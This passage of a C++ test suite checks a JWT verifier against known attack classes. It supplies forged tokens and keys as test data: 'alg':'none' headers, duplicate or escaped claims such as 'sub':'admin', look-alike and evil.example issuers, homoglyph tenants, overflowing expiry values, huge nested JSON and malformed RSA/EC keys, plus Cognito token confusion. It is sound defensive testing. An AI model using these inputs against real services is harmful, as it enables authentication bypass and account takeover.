                                  "{" + inner + ",\"x\":[1 2]}"}) {
    header(text);
  }
  suite.begin("duplicates");
  for (const std::string member :
       {R"("alg":"none")", R"("alg":"EdDSA")", R"("\u0061lg":"none")", R"("a\u006cg":"EdDSA")",
        R"("kid":"x")", R"("k\u0069d":"EdDSA0")", R"("x":1,"x":1)", R"("x":{"a":1,"a":2})"}) {
    header("{" + inner + "," + member + "}");
    header("{" + std::string(member) + "," + inner + "}");
  }
  const std::string claim = claims.substr(1, claims.size() - 2);
  for (const std::string member :
       {R"("sub":"admin")", R"("s\u0075b":"admin")", R"("exp":9999999999)", R"("iss":"x")",
        R"("aud":"app")", R"("x":1,"x":1)", R"("o":{"a":1,"a":1})", R"("l":[{"a":1,"a":1}])"}) {
    suite.refuse(token_of(k, "{" + claim + "," + member + "}"), every_public_key());
    suite.refuse(token_of(k, "{"s + member + "," + claim + "}"), every_public_key());
  }
  suite.begin("size and depth");
  for (const int depth : {32, 33, 100, 2000}) {
    const std::string deep = std::string(static_cast<std::size_t>(depth), '[') +
                             std::string(static_cast<std::size_t>(depth), ']');
    suite.refuse(token_of(k, "{" + claim + ",\"x\":" + deep + "}"), every_public_key());
    header("{" + inner + ",\"x\":" + deep + "}");
  }
  std::string members;
  for (int i = 0; i < 900; i++) members += ",\"" + std::to_string(i) + "\":0";
  suite.refuse(token_of(k, "{" + claim + members + "}"), every_public_key());
  suite.refuse(token_of(k, "{" + claim + ",\"x\":[" + std::string(3000, '{') + "]}"),
               every_public_key());
  std::string objects = "{}";
  for (int i = 0; i < 3000; i++) objects += ",{}";
  suite.refuse(token_of(k, "{" + claim + ",\"x\":[" + objects + "]}"), every_public_key());
  for (const std::size_t size : {20000, 1000000, 50000000}) {
    suite.refuse(encode(base) + "." + encode(claims) + "." + std::string(size, 'A'),
                 every_public_key());
  }
}

void claim_values(Suite &suite) {
  const Kind k = kind("EdDSA");
  const auto with = [](const std::string &name, const std::string &value) {
    std::string text;
    const std::pair<const char *, const char *> members[] = {{"iss", "\"https://issuer.example\""},
                                                             {"aud", "\"app\""},
                                                             {"sub", "\"s\""},
                                                             {"iat", "1799999900"},
                                                             {"exp", "1800000600"}};
    for (const auto &[key, usual] : members) {
      const std::string &chosen = key == name ? value : usual;
      if (!chosen.empty())
        text += (text.empty() ? "{\"" : ",\"") + std::string(key) + "\":" + chosen;
    }
    if (text.find("\"" + name + "\"") == text.npos && !value.empty()) {
      text += ",\"" + name + "\":" + value;
    }
    return text + "}";
  };
  const auto refuse = [&](const std::string &name, const std::string &value,
                          const Rules &rules = {}) {
    suite.refuse(token_of(k, with(name, value)), every_public_key(), rules);
  };
  const auto accept = [&](const std::string &name, const std::string &value,
                          const Rules &rules = {}) {
    suite.accept(token_of(k, with(name, value)), every_public_key(), rules);
  };
  suite.begin("exp");
  for (const std::string value : {"",
                                  "0",
                                  "-1",
                                  "-0.5",
                                  "1",
                                  "1799999999",
                                  "1800000000",
                                  "1800000000.9",
                                  "null",
                                  "true",
                                  "false",
                                  "\"\"",
                                  "\"1900000000\"",
                                  "\"never\"",
                                  "[]",
                                  "[1900000000]",
                                  "{}",
                                  "1e400",
                                  "-1e400",
                                  "1e300",
                                  "NaN",
                                  "Infinity",
                                  "0x7fffffff",
                                  "01900000000",
                                  "9223372036854775807",
                                  "9223372036854775808",
                                  "18446744073709551615",
                                  "18446744073709551616",
                                  "18446744075509551616",
                                  "-9223372036854775808",
                                  "253402300800",
                                  "1.9e99"}) {
    refuse("exp", value);
  }
  refuse("exp", std::string(400, '9'));
  accept("exp", "1800000001");
  accept("exp", "1800000600.5");
  accept("exp", "1.9e9");
  suite.either(token_of(k, with("exp", "253402300799")), every_public_key());
  suite.begin("nbf, iat");
  for (const char *name : {"nbf", "iat"}) {
    for (const std::string value :
         {"1800000001", "1800000000.5", "253402300799", "9223372036854775807",
          "18446744073709551616", "1e300", "-1", "\"0\"", "null", "true", "[]", "{}"}) {
      refuse(name, value);
    }
    accept(name, "0");
    accept(name, "1800000000");
  }
  suite.begin("iss");
  for (const std::string value : {"",
                                  "\"\"",
                                  "\"https://issuer.example/\"",
                                  "\"https://issuer.exampl\"",
                                  "\"https://issuer.example.evil.example\"",
                                  "\"https://evil.example/https://issuer.example\"",
                                  "\"HTTPS://issuer.example\"",
                                  "\"https://Issuer.example\"",
                                  "\" https://issuer.example\"",
                                  "\"https://issuer.example \"",
                                  "\"https://issuer.example\\u0000\"",
                                  "\"https://issuer.example\\n\"",
                                  "\"https://\\u0456ssuer.example\"",
                                  "\"http://issuer.example\"",
                                  "\"issuer.example\"",
                                  "[\"https://issuer.example\"]",
                                  "{}",
                                  "null",
                                  "1",
                                  "true"}) {
    refuse("iss", value);
  }
  accept("iss", "\"https:\\/\\/issuer.example\"");
  suite.begin("aud");
  for (const std::string value : {"",
                                  "\"\"",
                                  "\"ap\"",
                                  "\"apps\"",
                                  "\"App\"",
                                  "\"app \"",
                                  "\"app,x\"",
                                  "\"app x\"",
                                  "[]",
                                  "[\"\"]",
                                  "[\"other\"]",
                                  "[\"app\",1]",
                                  "[1]",
                                  "[null]",
                                  "[[\"app\"]]",
                                  "{\"app\":1}",
                                  "null",
                                  "true",
                                  "0",
                                  "\"*\"",
                                  "\"app\\u0000\""}) {
    refuse("aud", value);
  }
  accept("aud", "[\"app\"]");
  accept("aud", "[\"other\",\"app\"]");
  suite.begin("sub, tenant");
  for (const std::string value :
       {"", "\"\"", "null", "1", "true", "[]", "[\"s\"]", "{}", "\"s\\u0000\"", "\"a\\nb\"",
        "\"\\u001b[2J\"", "\"\\u0085\"", "\"\\u007f\""}) {
    refuse("sub", value);
    if (!value.empty() && value != "1") refuse("account", value);
  }
  refuse("sub", "\"" + std::string(256, 's') + "\"");
  refuse("account", "1.5");
  for (const char *near : {"tenant-a ", " tenant-a", "Tenant-a", "tenant-a\u200b", "ten\u0430nt-a",
                           "tenant-%", "tenant-a'", "tenant_a"}) {
    const OwnedToken token(parse(token_of(k, with("account", "\""s + near + "\""))).token);
    const OwnedIssuer issuer(make_issuer(Rules().rules, keys_of(every_public_key()).release()));
    const Verdict verdict = verify(*token, *issuer, now);
    CHECK(verdict.account == near);  // byte for byte, and so another tenant
    CHECK(verdict.account != "tenant-a");
    suite.either(token_of(k, with("account", "\""s + near + "\"")), every_public_key());
  }
  suite.begin("cnf");
  for (const std::string value : {"{}", "null", "{\"jkt\":\"x\"}", "{\"x5t#S256\":\"x\"}", "1"}) {
    refuse("cnf", value);
  }
}

void keys(Suite &suite) {
  suite.begin("jwk");
  const std::string f4 = "\1\0\1"s;
  const auto rsa_key = [](const std::string &n, const std::string &e) {
    return R"({"kty":"RSA","n":")" + encode(n) + R"(","e":")" + encode(e) + "\"}";
  };
  std::string n(256, '\x5a');
  n.front() = '\xc5';
  n.back() = '\x6b';
  std::string even = n;
  even.back() = '\x6a';
  std::string short_n = n;
  short_n.front() = '\x7f';
  for (const std::string &key : {rsa_key(n.substr(0, 128), f4),
                                 rsa_key(n.substr(1), f4),
                                 rsa_key(short_n, f4),
                                 rsa_key(std::string(128, '\0') + n.substr(128), f4),
                                 rsa_key("\0"s + n, f4),
                                 rsa_key(even, f4),
                                 rsa_key(std::string(256, '\0'), f4),
                                 rsa_key("", f4),
                                 rsa_key(n, ""),
                                 rsa_key(n, "\0"s),
                                 rsa_key(n, "\1"),
                                 rsa_key(n, "\2"),
                                 rsa_key(n, "\4"),
                                 rsa_key(n, "\1\0\0"s),
                                 rsa_key(n, "\0\1\0\1"s),
                                 rsa_key(n, std::string(9, '\1')),
                                 rsa_key(n, n),
                                 rsa_key(n + std::string(1793, '\1'), f4),
                                 rsa_key(n + std::string(7936, '\1'), f4),
                                 R"({"kty":"RSA"})"s,
                                 R"({"kty":"RSA","n":1,"e":1})"s,
                                 R"({"kty":"RSA","n":null,"e":"AQAB"})"s,
                                 R"({"kty":"RSA","n":["AQAB"],"e":"AQAB"})"s}) {
    suite.refuse_keys(key);
  }
  const auto ec_key = [](const std::string &x, const std::string &y, const std::string &crv) {
    return R"({"kty":"EC","crv":")" + crv + R"(","x":")" + encode(x) + R"(","y":")" + encode(y) +
           "\"}";
  };
  for (const auto &[crv, size] : {std::pair("P-256"s, 32u), {"P-384"s, 48u}, {"P-521"s, 66u}}) {
    const std::string zero(size, '\0'), one(size, '\1'), max(size, '\xff');
    for (const std::string &key :
         {ec_key(zero, zero, crv), ec_key(one, one, crv), ec_key(max, one, crv),
          ec_key(one, max, crv), ec_key(one.substr(1), one, crv), ec_key(one + "\1", one, crv),
          ec_key("\0"s + one, one, crv), ec_key(one, "", crv), ec_key("", one, crv)}) {
      suite.refuse_keys(key);
    }
  }
  for (const char *crv : {"", "p-256", "P256", "P-192", "P-224", "secp256k1", "secp256r1",
                          "brainpoolP256r1", "Ed25519"}) {
    suite.refuse_keys(ec_key(std::string(32, '\1'), std::string(32, '\1'), crv));
  }
  for (const char *crv : {"", "X25519", "X448", "ed25519", "P-256"}) {
    suite.refuse_keys(R"({"kty":"OKP","crv":")"s + crv + R"(","x":")" +
                      encode(std::string(32, '\7')) + "\"}");
  }
  for (const std::size_t size : {0, 1, 31, 33, 56, 57, 58, 64}) {
    suite.refuse_keys(R"({"kty":"OKP","crv":"Ed25519","x":")" + encode(std::string(size, '\7')) +
                      "\"}");
  }
  const Signer &ec = Signer::es256();
  for (const std::string more : {R"("alg":"ES384")",
                                 R"("alg":"RS256")",
                                 R"("alg":"HS256")",
                                 R"("alg":"none")",
                                 R"("alg":"")",
                                 R"("alg":null)",
                                 R"("alg":1)",
                                 R"("alg":["ES256"])",
                                 R"("use":"enc")",
                                 R"("use":"")",
                                 R"("use":null)",
                                 R"("use":["sig"])",
                                 R"("key_ops":[])",
                                 R"("key_ops":["sign"])",
                                 R"("key_ops":["encrypt"])",
                                 R"("key_ops":"verify")",
                                 R"("key_ops":[1])",
                                 R"("key_ops":["verify",null])",
                                 R"("key_ops":null)",
                                 R"("kid":"")",
                                 R"("kid":null)",
                                 R"("kid":1)",
                                 R"("kid":["a"])",
                                 R"("kid":"a\nb")",
                                 R"("d":"AQAB")",
                                 R"("k":"AQAB")"}) {
    suite.refuse_keys(ec.jwk(more));
  }
  for (const std::string kty : {"", "ec", "EC ", "oct", "AKP", "RSA", "OKP"}) {
    std::string key = ec.jwk();
    key.replace(key.find("\"EC\""), 4, "\"" + kty + "\"");
    suite.refuse_keys(key);
  }

  suite.begin("jwks");
  const std::string a = ec.jwk(R"("kid":"a")"), b = Signer::rs256().jwk(R"("kid":"b")");
  const std::string whole = set_of({a, b});
  std::string many = a;
  for (int i = 0; i < 9999; i++) many += ",{\"kty\":\"x\"}";
  for (const std::string &text : {""s,
                                  " "s,
                                  "null"s,
                                  "[]"s,
                                  "{}"s,
                                  "\"\""s,
                                  "<html><body>503</body></html>"s,
                                  whole.substr(0, whole.size() - 1),
                                  whole.substr(0, 100),
                                  whole + "x",
                                  whole + whole,
                                  whole + "\0"s,
                                  "\0"s + whole,
                                  "\xef\xbb\xbf" + whole,
                                  "[" + a + "]",
                                  R"({"keys":{}})"s,
                                  R"({"keys":null})"s,
                                  R"({"keys":""})"s,
                                  R"({"keys":[]})"s,
                                  R"({"keys":[null]})"s,
                                  R"({"keys":[[]]})"s,
                                  R"({"keys":[],"keys":[)" + a + "]}",
                                  R"({"keys":[)" + a + R"(],"\u006beys":[]})",
                                  "{\"keys\":[" + many + "]}",
                                  R"({"keys":[{"kty":"x"}]})"s,
                                  whole + std::string(1 << 20, ' ')}) {
    suite.refuse_keys(text);
  }
  suite.accept_keys(whole);
  suite.accept_keys(set_of({a, R"({"kty":"AKP"})", "7", R"({"kty":"EC"})", b}));
  suite.accept_keys(set_of({a, R"({"kty":"RSA","n":"AQ","e":"AQAB"})"}));
}

void cognito(Suite &suite) {
  suite.begin("cognito");
  static constexpr std::string_view clients[] = {"4kq3client"};
  static constexpr std::string_view claim_names[] = {"client_id", "aud"};
  static constexpr std::string_view client_id[] = {"client_id"};
  static constexpr std::string_view aud[] = {"aud"};
  static constexpr RequiredClaim access[] = {{"token_use", "access"}};
  static constexpr RequiredClaim identity[] = {{"token_use", "id"}};
  static constexpr RequiredClaim both[] = {{"token_use", "access"}, {"token_use", "id"}};
  const std::string base = "https://cognito-idp.eu-central-1.amazonaws.com/";
  const std::string issuer = base + "eu-central-1_Abc";
  Rules for_access, for_identity, for_both;
  for (Rules *rules : {&for_access, &for_identity, &for_both}) {
    rules->rules.issuer = issuer;
    rules->rules.audiences = clients;
  }
  for_access.rules.audience_claims = client_id;
  for_access.rules.required_claims = access;
  for_identity.rules.audience_claims = aud;
  for_identity.rules.required_claims = identity;
  for_both.rules.audience_claims = claim_names;
  for_both.rules.required_claims = both;

  const Kind k = kind("RS256");
  const auto mint_as = [&](const std::string &iss, const std::string &more) {
    return token_of(k, R"({"iss":")" + iss +
                           R"(","sub":"s","iat":1799999900,"exp":1800000600,)"
                           R"("cognito:groups":["a","a"],"version":2,)" +
                           more + "}");
  };
  const std::string access_token =
      R"("token_use":"access","client_id":"4kq3client","username":"u")";
  const std::string identity_token =
      R"("token_use":"id","aud":"4kq3client","cognito:username":"u")";
  suite.accept(mint_as(issuer, access_token), every_public_key(), for_access);
  suite.accept(mint_as(issuer, identity_token), every_public_key(), for_identity);
  suite.accept(mint_as(issuer, access_token), every_public_key(), for_both);
  suite.accept(mint_as(issuer, identity_token), every_public_key(), for_both);
  suite.refuse(mint_as(issuer, identity_token), every_public_key(), for_access);
  suite.refuse(mint_as(issuer, access_token), every_public_key(), for_identity);
  for (const Rules *rules : {&for_access, &for_identity, &for_both}) {
    for (const std::string &iss :
         {base + "eu-central-1_Abd", base + "eu-central-1_abc", base + "eu-central-1_Abc/",
          base + "eu-central-1_Ab", base,
          "https://cognito-idp.eu-west-1.amazonaws.com/eu-central-1_Abc"s,
          "https://cognito-idp.eu-west-1.amazonaws.com/eu-west-1_Abc"s,
          "https://issuer-cognito-idp.eu-central-1.amazonaws.com/eu-central-1_Abc"s,
          "https://auth.customer.example"s, "eu-central-1_Abc"s}) {
      suite.refuse(mint_as(iss, access_token), every_public_key(), *rules);
      suite.refuse(mint_as(iss, identity_token), every_public_key(), *rules);
    }
    for (const std::string more :
         {R"("token_use":"access","client_id":"4kq3clien")",
          R"("token_use":"access","client_id":"other")", R"("token_use":"access","client_id":"")",
          R"("token_use":"access","client_id":null)", R"("token_use":"access")",
          R"("token_use":"id","aud":"other")", R"("token_use":"id","aud":[])",
          R"("token_use":"id")", R"("token_use":"id","aud":"4kq3client","client_id":"other")",
          R"("token_use":"refresh","client_id":"4kq3client","aud":"4kq3client")",
          R"("token_use":"Access","client_id":"4kq3client","aud":"4kq3client")",
          R"("token_use":"","client_id":"4kq3client","aud":"4kq3client")",
          R"("token_use":["access"],"client_id":"4kq3client","aud":"4kq3client")",
          R"("token_use":null,"client_id":"4kq3client","aud":"4kq3client")",
          R"("client_id":"4kq3client","aud":"4kq3client")"}) {
      // A stray client_id does no harm where aud alone is read.
      if (rules == &for_identity && more.find("\"other\"") != more.npos &&
          more.find("\"aud\":\"4kq3client\"") != more.npos) {
        continue;
      }
      suite.refuse(mint_as(issuer, more), every_public_key(), *rules);
    }
  }
}

}  // namespace

TEST_CASE("attacks: every known class, with its expected answer", "[attacks]") {
  Suite suite;
  sound_tokens(suite);
  alg_none(suite);
  alg_names(suite);
  key_confusion(suite);
  pinned(suite);
  key_ids(suite);
  header_members(suite);
  ecdsa(suite);
  rsa(suite);
  eddsa(suite);
  hmac(suite);
  base64url(suite);
  structure(suite);
  json(suite);
  claim_values(suite);
  keys(suite);
  cognito(suite);
  suite.print();
}
